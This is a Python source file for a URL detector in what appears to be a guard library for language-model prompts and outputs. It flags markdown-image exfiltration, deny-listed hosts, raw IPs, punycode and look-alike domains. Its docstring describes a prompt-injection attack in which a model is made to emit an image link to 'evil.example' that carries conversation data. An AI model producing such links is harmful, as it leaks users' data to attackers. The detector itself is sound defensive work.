"""``urls``: links in prompts and completions that leak data or mislead.

The sharpest case is markdown-image exfiltration: an injected instruction makes the model
answer ``![x](https://evil.example/?q=<conversation data>)`` and the chat client fetches the
image, sending the data to the attacker with no click. Other findings: hosts on a deny list
(or off an allow list), raw IP hosts, punycode (``xn--``) hosts and look-alikes of allowed
domains (``paypa1.com``, Cyrillic ``аpple.com``).

Domains are compared by registered domain (``a.b.example.co.uk`` -> ``example.co.uk``) using
the Public Suffix List snapshot bundled in ``tldextract``; it is configured here never to
fetch the live list and never to write a cache.

Categories: ``markdown_image``, ``denied_domain``, ``not_allowed_domain``, ``ip_host``,
``punycode``, ``lookalike_domain``. A markdown image carrying a query string, a fragment or a
long path segment scores 0.95 (data can ride in it); a plain image scores 0.5.
"""

from __future__ import annotations

import functools
import ipaddress
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from pydantic import field_validator

from guard.detectors.base import DetectorSettings, SyncDetector
from guard.detectors.normalize import skeleton
from guard.types import Finding

MARKDOWN_IMAGE = "markdown_image"
DENIED_DOMAIN = "denied_domain"
NOT_ALLOWED_DOMAIN = "not_allowed_domain"
IP_HOST = "ip_host"
PUNYCODE = "punycode"
LOOKALIKE_DOMAIN = "lookalike_domain"

_URL_CHARS = r"[^\s<>\"'`)\]]"
_URL = re.compile(
    rf"(?i)\b(?:https?|ftp)://(?:\[[0-9a-f:.]+\]{_URL_CHARS}*|{_URL_CHARS}+)|\bwww\.{_URL_CHARS}+")
_MD_IMAGE = re.compile(r"!\[[^\]\n]{0,500}\]\(\s*<?([^\s)>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
_MD_IMAGE_REF = re.compile(r"!\[[^\]\n]{0,500}\]\[([^\]\n]{1,100})\]")
_MD_REF_DEF = re.compile(r"(?im)^[ \t]{0,3}\[([^\]\n]{1,100})\]:[ \t]*<?(\S+?)>?(?:[ \t]+\S.*)?$")
_HTML_IMG = re.compile(r"(?i)<img\b[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]+)[^>]*>")
_BARE_HOST = re.compile(
    r"(?i)(?<![\w@.-])(?:[a-z0-9\u00a1-\uffff-]+\.)+[a-z\u00a1-\uffff]{2,}(?![\w-])")
_TRAILING = ".,;:!?"


@functools.lru_cache(maxsize=1)
def _extractor() -> Any:
    """The bundled Public Suffix List, offline: no suffix-list URLs, no disk cache."""
    import tldextract

    return tldextract.TLDExtract(cache_dir=None, suffix_list_urls=(), fallback_to_snapshot=True)


def _registered(host: str) -> str:
    parts = _extractor()(host)
    if parts.suffix and parts.domain:
        return f"{parts.domain}.{parts.suffix}"
    return host


def _domain_list(value: tuple[str, ...]) -> tuple[str, ...]:
    out = []
    for entry in value:
        host = entry.strip().lower().removeprefix("*.").rstrip(".")
        if not host or "/" in host or " " in host:
            raise ValueError(f"not a domain: {entry!r}")
        out.append(_ascii_host(host) or host)
    return tuple(out)


class UrlsSettings(DetectorSettings):
    allow_domains: tuple[str, ...] = ()
    deny_domains: tuple[str, ...] = ()
    block_ip_hosts: bool = True
    block_punycode: bool = True
    markdown_images: bool = True

    @field_validator("allow_domains", "deny_domains")
    @classmethod
    def _domains(cls, value: tuple[str, ...]) -> tuple[str, ...]:
        return _domain_list(value)


@dataclass(frozen=True, slots=True)
class _Link:
    start: int
    end: int
    url: str
    image: bool


def _ascii_host(host: str) -> str | None:
    try:
        return host.encode("idna").decode("ascii").lower()
    except UnicodeError:
        return None


def _host_of(url: str) -> str | None:
    if "://" not in url:
        url = "http://" + url
    try:
        host = urlsplit(url.replace("\\", "/")).hostname
    except ValueError:
        return None
    return host.rstrip(".").lower() if host else None


def _ip(host: str) -> bool:
    try:
        ipaddress.ip_address(host)
        return True
    except ValueError:
        # decimal / hex / octal encodings that browsers still resolve (http://3232235777/)
        return bool(re.fullmatch(r"(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}", host))


def _matches(host: str, domains: tuple[str, ...]) -> bool:
    return any(host == d or host.endswith("." + d) for d in domains)


def _carries_data(url: str) -> bool:
    parts = urlsplit(url if "://" in url else "http://" + url)
    if parts.query or parts.fragment:
        return True
    return any(len(seg) >= 24 for seg in parts.path.split("/"))


class UrlsDetector(SyncDetector):
    name = "urls"

    def __init__(self, settings: UrlsSettings) -> None:
        self.settings = settings
        self._allow_skeletons = {
            skeleton(_registered(d)): _registered(d) for d in settings.allow_domains
        }
        _extractor()  # load the suffix list at policy load, not on the first request

    def detect_one(self, text: str) -> list[Finding]:
        findings: list[Finding] = []
        for link in _links(text):
            findings.extend(self._judge(link))
        findings.extend(self._bare_denied(text, findings))
        return sorted(findings, key=lambda f: (f.start, f.category))

    def _judge(self, link: _Link) -> list[Finding]:
        s = self.settings
        host = _host_of(link.url)
        if host is None:
            return []
        ascii_host = _ascii_host(host) or host
        out: list[Finding] = []

        def add(category: str, score: float, why: str) -> None:
            out.append(Finding(self.name, category, score, link.start, link.end, why))

        allowed = _matches(ascii_host, s.allow_domains)
        if _matches(ascii_host, s.deny_domains):
            add(DENIED_DOMAIN, 1.0, "host is on the deny list")
        elif s.allow_domains and not allowed:
            add(NOT_ALLOWED_DOMAIN, 0.8, "host is not on the allow list")
        if link.image and s.markdown_images and not allowed:
            data = _carries_data(link.url)
            add(MARKDOWN_IMAGE, 0.95 if data else 0.5,
                "image link to an outside host" + (" carrying data" if data else ""))
        if allowed:
            return out
        if s.block_ip_hosts and _ip(host.strip("[]")):
            add(IP_HOST, 0.8, "link to a raw IP address")
        if s.block_punycode and any(lbl.startswith("xn--") for lbl in ascii_host.split(".")):
            add(PUNYCODE, 0.8, "internationalised (punycode) host name")
        lookalike = self._lookalike(ascii_host, host)
        if lookalike:
            add(LOOKALIKE_DOMAIN, 0.9, f"looks like {lookalike}")
        return out

    def _lookalike(self, ascii_host: str, host: str) -> str | None:
        if not self._allow_skeletons:
            return None
        unicode_host = host
        if ascii_host.startswith("xn--") or ".xn--" in ascii_host:
            try:
                unicode_host = ascii_host.encode("ascii").decode("idna")
            except UnicodeError:
                unicode_host = host
        reg = _registered(ascii_host)
        labels = unicode_host.split(".")
        candidate = ".".join(labels[-len(reg.split(".")):])
        target = self._allow_skeletons.get(skeleton(candidate))
        if target is not None and target != reg:
            return target
        for allowed in self._allow_skeletons.values():  # apple.com.evil.example
            if f"{allowed}." in f"{ascii_host}." and reg != allowed:
                return allowed
        return None

    def _bare_denied(self, text: str, found: list[Finding]) -> list[Finding]:
        """Deny-listed domains mentioned without a scheme ("send it to evil.example")."""
        if not self.settings.deny_domains:
            return []
        out = []
        for m in _BARE_HOST.finditer(text):
            if any(f.start <= m.start() < f.end for f in found):
                continue
            host = _ascii_host(m.group().lower()) or m.group().lower()
            if _matches(host, self.settings.deny_domains):
                out.append(Finding(self.name, DENIED_DOMAIN, 1.0, m.start(), m.end(),
                                   "deny-listed domain mentioned"))
        return out


def _links(text: str) -> list[_Link]:
    links: list[_Link] = []
    taken: list[tuple[int, int]] = []
    refs = {m.group(1).lower(): m.group(2) for m in _MD_REF_DEF.finditer(text)}
    for m in _MD_IMAGE.finditer(text):
        links.append(_Link(m.start(), m.end(), m.group(1), True))
        taken.append((m.start(), m.end()))
    for m in _MD_IMAGE_REF.finditer(text):
        url = refs.get(m.group(1).lower())
        if url:
            links.append(_Link(m.start(), m.end(), url, True))
            taken.append((m.start(), m.end()))
    for m in _HTML_IMG.finditer(text):
        links.append(_Link(m.start(), m.end(), m.group(1), True))
        taken.append((m.start(), m.end()))
    for m in _URL.finditer(text):
        if any(s <= m.start() < e for s, e in taken):
            continue
        url = m.group().rstrip(_TRAILING)
        links.append(_Link(m.start(), m.start() + len(url), url, False))
    return links


def build(settings: Mapping[str, Any]) -> UrlsDetector:
    return UrlsDetector(UrlsSettings.model_validate(settings))
